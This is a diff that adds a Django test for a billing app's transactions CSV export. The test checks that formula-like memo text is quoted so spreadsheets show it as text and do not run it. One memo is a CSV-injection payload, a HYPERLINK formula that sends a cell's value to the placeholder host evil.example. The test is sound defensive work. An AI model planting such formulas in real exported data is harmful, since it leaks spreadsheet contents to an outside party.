@@ -174,6 +174,19 @@ def test_transactions_can_be_filtered_and_exported(client, billing_admin, funded
     assert funding[1:] == ["Funding", funding[2], "100.00", "100.00", "USD", receipt.number]
 
 
+def test_the_transactions_csv_writes_a_formula_in_a_description_as_text_and_amounts_as_numbers(client, billing_admin, funded_account):
+    memo = '=HYPERLINK("https://evil.example/?"&A1,"Receipt")'
+    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo=memo)
+    services.charge_usage(account_id=funded_account.pk, amount=Decimal("1.00"), idempotency_key="call-2", memo="-1+1")
+    client.force_login(billing_admin)
+    export = client.get(reverse("billing:transactions"), {"kind": "usage_charge", "export": "csv"})
+    rows = list(csv.reader(b"".join(export.streaming_content).decode().splitlines()))
+    by_amount = {row[3]: row for row in rows[1:]}
+    # The quote of billing.formulas: a spreadsheet shows the text and runs nothing; amounts stay numbers.
+    assert by_amount["-3.50"][2] == "'" + memo and by_amount["-3.50"][4] == "96.50"
+    assert by_amount["-1.00"][2] == "'-1+1"
+
+
 def test_the_credits_page_issues_a_bounded_number_of_queries(client, billing_admin, card, org, django_assert_max_num_queries):
     for i in range(30):
         services.fund_credits(organization=org, actor=billing_admin, amount=Decimal("10"), payment_method=card, idempotency_key=f"q{i}")
